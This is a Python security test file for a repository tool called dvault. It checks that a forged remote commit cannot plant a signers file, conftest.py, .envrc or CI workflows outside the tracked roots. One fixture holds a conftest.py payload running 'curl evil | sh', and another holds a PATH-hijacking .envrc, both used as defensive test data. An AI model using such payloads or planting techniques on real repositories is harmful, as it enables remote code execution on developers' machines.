"""Attack A2: a data tree wrote any project path.

Checkout wrote every path of a commit's tree, so a writer to the remote planted
``.dvaultsigners`` (its own key then showed as "good signature by alice" in
``log --show-signature``, ``verify`` and ``review``, and passed ``require-signed``),
``conftest.py`` (runs under pytest), ``.envrc`` and ``.github/workflows/*.yml``. Now a
checkout writes only under the target commit's tracked roots, roots can never name such
files, and trust in signers comes from the user's own file or the ``.dvaultsigners``
committed in git's HEAD commit, never from the work tree.
"""

from __future__ import annotations

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.cli.helpers import git, one_error_line
from tests.security._checkout_helpers import Forger, Scene, tree_paths


def plant(scene: Scene, files: dict[bytes, object], sign: Ed25519PrivateKey | None = None) -> None:
    """Publish a child of main whose tree adds ``files`` outside every root (roots stay
    ``data``), signed with ``sign`` if given."""
    with scene.forger() as repo, Forger(repo) as forger:
        commit = forger.child_of_main(scene, files, {}, sign=sign)
    scene.publish(commit)


def signer_line(name: str, key: Ed25519PrivateKey) -> bytes:
    public = key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
    return f"{name} ed25519:{public.hex()}\n".encode()


def test_a_planted_signers_file_never_makes_a_good_signature(scene: Scene) -> None:
    """The forger's commit carries .dvaultsigners naming its own key "alice". The pull is
    refused (it is outside every root); and a signers file in the work tree, however it
    got there, is not trust: log and verify see an unknown signer (require-signed and
    review read the same ``signing.trusted_signers``)."""
    mallory = Ed25519PrivateKey.generate()
    plant(scene, {b".dvaultsigners": signer_line("alice", mallory)}, sign=mallory)
    victim = scene.victim
    result = victim.run("pull")
    assert result.code == 3, result.describe()
    assert "'.dvaultsigners' (not under any tracked root" in one_error_line(result)
    assert not (victim.root / ".dvaultsigners").exists()

    # planted by any other means: a work-tree file is not trusted
    (victim.root / ".dvaultsigners").write_bytes(signer_line("alice", mallory))
    shown = victim.ok("log", "--show-signature", "-n", "1", "--json", "origin/main").json()
    assert shown[0]["signature"]["status"] == "unknown", shown
    counts = victim.ok("verify", "origin/main", "--json").json()["signatures"]
    assert counts["good"] == 0 and counts["unknown"] == 1, counts


def test_signers_committed_to_git_are_trusted(scene: Scene) -> None:
    """The trust path that remains: .dvaultsigners committed in git's HEAD commit (a
    reviewed change), read from git's objects."""
    mallory = Ed25519PrivateKey.generate()
    plant(scene, {}, sign=mallory)
    victim = scene.victim
    victim.ok("fetch")
    (victim.root / ".dvaultsigners").write_bytes(signer_line("carol", mallory))
    assert victim.log("--show-signature", "-n", "1", "origin/main")[0]["signature"]["status"] == (
        "unknown"
    )
    git(victim, "add", ".dvaultsigners")
    git(victim, "commit", "-qm", "trust carol")
    signature = victim.log("--show-signature", "-n", "1", "origin/main")[0]["signature"]
    assert signature["status"] == "good" and signature["signer"] == "carol"
    (victim.root / ".dvaultsigners").write_text("")  # the work tree's copy is not read
    assert victim.log("--show-signature", "-n", "1", "origin/main")[0]["signature"]["signer"] == (
        "carol"
    )


@pytest.mark.parametrize(
    "files",
    [
        {b"conftest.py": b"import os; os.system('curl evil | sh')\n"},
        {b".envrc": b"export PATH=/tmp/evil:$PATH\n"},
        {b".github": {b"workflows": {b"x.yml": b"on: push\njobs: {}\n"}}},
        {b"dvault.lock": b'version = 1\ncommit = "00"\n'},
        {b".gitignore": b"*\n"},
    ],
    ids=["conftest", "envrc", "workflow", "lock", "gitignore"],
)
def test_files_outside_the_roots_are_never_written(
    scene: Scene, files: dict[bytes, object]
) -> None:
    before = tree_paths(scene.victim.root)
    lock = (scene.victim.root / "dvault.lock").read_bytes()
    plant(scene, files)
    result = scene.victim.run("pull")
    assert result.code == 3, result.describe()
    assert "not under any tracked root" in one_error_line(result)
    assert tree_paths(scene.victim.root) == before
    assert (scene.victim.root / "dvault.lock").read_bytes() == lock


def test_a_root_cannot_name_a_file_that_configures_git_or_dvault(scene: Scene) -> None:
    """The roots themselves cannot reach such files: a commit whose root is
    ``.github`` or ``.gitattributes`` is corrupt (as ``.git`` is)."""
    spec = {b".gitattributes": {b"workflows": {b"x.yml": b"on: push\n"}}}
    with scene.forger() as repo, Forger(repo) as forger:
        commit = forger.child_of_main(scene, spec, {".gitattributes": "other"})
    scene.publish(commit)
    result = scene.victim.run("pull", "--accept-roots")
    assert result.code == 3, result.describe()
    assert "configures dvault or git" in one_error_line(result)
    assert not (scene.victim.root / ".gitattributes").exists()
